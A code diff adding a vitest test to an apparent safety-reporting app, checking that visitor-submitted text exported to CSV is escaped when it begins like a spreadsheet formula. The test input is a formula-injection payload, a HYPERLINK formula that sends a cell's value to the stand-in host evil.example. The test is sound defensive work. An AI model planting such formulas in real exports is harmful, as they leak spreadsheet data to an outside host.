@@ -2,10 +2,12 @@ import type { RiskMatrix } from '@safety-qube/contract/schemas/custom-fields';
 import type { TemplateImage } from '@safety-qube/contract/schemas/template-content';
 import { rateRisk } from '@safety-qube/domain/records/risk';
 import { question, section, template } from '@safety-qube/domain/templates/templates.factory';
+import { parse } from 'csv-parse/sync';
 import sharp from 'sharp';
 import { beforeAll, expect, test } from 'vitest';
 import { type Person, useTestApp } from '../../testing/test-app.ts';
 import { type PosterOf, reportWithoutName, someClaim, visitorCalls } from '../../testing/visitors.ts';
+import { askNow } from '../exports/exports.factory.ts';
 import { addFacility } from '../people/people.factory.ts';
 import { publishForm } from '../posters/posters.factory.ts';
 
@@ -152,4 +154,14 @@ test('10,000 words are refused in a sentence, and nothing is stored of them', as
   });
   expect([answer.statusCode, answer.json().code]).toEqual([400, 'INVALID_INPUT']);
   expect(answer.json().message).toMatch(/[a-z]+ .*\.$/);
+});
+
+test('what a visitor writes is a text in an exported file, also if it begins like a formula', async () => {
+  const description = '=HYPERLINK("https://evil.example/?"&A1;"Details")';
+  const { number } = await reportWithoutName(t, facilityId, { type: 'issue', category: 'idea', description });
+  const { rawPayload } = await askNow(t, acme(), admin, { type: 'issue', query: `search=${number}` });
+  const [, ...rows] = parse(rawPayload, { bom: true }) as string[][];
+  expect(rows).toHaveLength(1);
+  expect(rows[0]).toContain(`'${description}`);
+  expect(rows.flat().filter((cell) => /^[=+@-]/.test(cell))).toEqual([]);
 });
